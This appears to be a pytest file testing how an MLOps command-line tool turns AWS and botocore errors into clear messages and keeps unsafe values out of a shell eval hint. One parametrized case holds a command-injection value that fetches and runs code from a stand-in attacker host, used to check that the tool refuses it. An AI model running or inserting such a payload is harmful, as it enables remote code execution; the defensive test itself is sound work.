"""botocore failures become one clear line: real failures where they can happen here, AWS's documented
error shapes where only a real account could produce them (AccessDenied, throttling)."""

from __future__ import annotations

import pytest

from mlops_cli.aws import AwsClients, translate_error
from mlops_cli.config.schema import AwsConfig
from mlops_cli.errors import OperationError, UsageError
from tests.helpers import free_port


def aws_error(code: str, message: str, operation: str, status: int = 400, retries: int = 0):
    from botocore.exceptions import ClientError

    metadata = {"HTTPStatusCode": status, "RetryAttempts": retries}
    return ClientError({"Error": {"Code": code, "Message": message}, "ResponseMetadata": metadata}, operation)


def test_missing_credentials_names_the_fix(monkeypatch):
    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_PROFILE"):
        monkeypatch.delenv(name, raising=False)
    clients = AwsClients(AwsConfig(region="us-east-1"))
    with pytest.raises(Exception) as caught:
        clients.client("sts").get_caller_identity()  # fails while signing: nothing is sent
    error = translate_error(caught.value)
    assert isinstance(error, UsageError)
    assert "no AWS credentials" in str(error) and "--profile" in error.hint and "local" in error.hint


def test_unreachable_local_endpoint_says_start_it():
    port = free_port()  # nothing listens there
    clients = AwsClients(AwsConfig(endpoint_url=f"http://127.0.0.1:{port}"))
    with pytest.raises(Exception) as caught:
        clients.client("s3").list_buckets()
    error = translate_error(caught.value)
    assert isinstance(error, OperationError)
    assert f"127.0.0.1:{port}" in str(error) and "mlops local up" in error.hint


def test_not_found_from_the_local_aws(local_aws):
    clients = AwsClients(AwsConfig(endpoint_url=local_aws))
    with pytest.raises(Exception) as caught:
        clients.client("s3").get_object(Bucket="no-such-bucket-here", Key="x")
    error = translate_error(caught.value)
    assert str(error).startswith("not found:") and "GetObject" in str(error)
    with pytest.raises(Exception) as caught:
        clients.client("sagemaker").describe_training_job(TrainingJobName="missing-job")
    assert str(translate_error(caught.value)).startswith("not found:")


def test_access_denied_names_action_and_resource():
    # The message format AWS returns for IAM-denied calls (cannot be produced without a real account).
    error = translate_error(
        aws_error(
            "AccessDeniedException",
            "User: arn:aws:iam::111122223333:user/ci is not authorized to perform: sagemaker:CreateTrainingJob "
            "on resource: arn:aws:sagemaker:us-east-1:111122223333:training-job/digits-1 because no "
            "identity-based policy allows the sagemaker:CreateTrainingJob action",
            "CreateTrainingJob",
        )
    )
    assert isinstance(error, OperationError)
    assert "sagemaker:CreateTrainingJob on arn:aws:sagemaker:us-east-1:111122223333:training-job/digits-1" in str(error)
    assert "--profile" in error.hint
    s3_style = translate_error(aws_error("AccessDenied", "Access Denied", "PutObject", 403))
    assert "access denied" in str(s3_style) and "PutObject" in str(s3_style)


def test_throttling_after_retries():
    error = translate_error(aws_error("ThrottlingException", "Rate exceeded", "DescribeEndpoint", retries=3))
    assert "throttled DescribeEndpoint" in str(error) and "after 4 attempts" in str(error)


def test_server_errors_after_retries_say_so():
    error = translate_error(aws_error("InternalFailure", "unknown error", "CreateModel", 500, retries=3))
    assert str(error) == "CreateModel failed: InternalFailure: unknown error (AWS answered 500 to all 4 attempts)"


def test_other_client_errors_keep_code_and_message():
    error = translate_error(aws_error("ResourceLimitExceeded", "The account-level service limit", "CreateEndpoint"))
    assert str(error) == "CreateEndpoint failed: ResourceLimitExceeded: The account-level service limit"


def test_insecure_remote_endpoint_refused():
    with pytest.raises(ValueError, match="loopback"):
        AwsConfig(endpoint_url="http://example.com")
    assert AwsConfig(endpoint_url="https://vpce.example.com/").endpoint_url == "https://vpce.example.com"


def test_local_endpoint_never_gets_real_credentials(monkeypatch, local_aws):
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKIAREALKEYDONOTSEND")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "real-secret")
    from mlops_cli.local.core import credentials as local_credentials

    credentials = AwsClients(AwsConfig(endpoint_url=local_aws)).session.get_credentials()
    assert credentials.access_key == local_credentials.load(local_aws).access_key_id


@pytest.mark.parametrize(
    "owner, shown",
    [
        ("'/home/me/proj/.mlops'", "MLOPS_HOME=/home/me/proj/.mlops"),
        ("'/tmp/a b/$(x)'", "MLOPS_HOME='/tmp/a b/$(x)'"),
        ("$(curl${IFS}-s${IFS}attacker.invalid/x|sh)", None),
        ("relative/home", None),
    ],
)
def test_another_homes_path_reaches_the_eval_hint_only_quoted_and_absolute(owner, shown):
    """Whatever listens on the port writes this message: its path is pasted into `eval "$(...)"` only when it is a
    plain absolute path, quoted for the shell."""
    error = translate_error(
        aws_error(
            "InvalidClientTokenId",
            f"The security token included in the request is invalid: it belongs to MLOPS_HOME={owner} (pid 1)",
            "ListBuckets",
            403,
        )
    )
    text = f"{error} {error.hint}"
    if shown is None:
        assert "belongs to another home" not in text and "eval" not in text and "$(curl" not in (error.hint or "")
    else:
        assert "belongs to another home" in text and f'eval "$({shown} mlops local env)"' in text
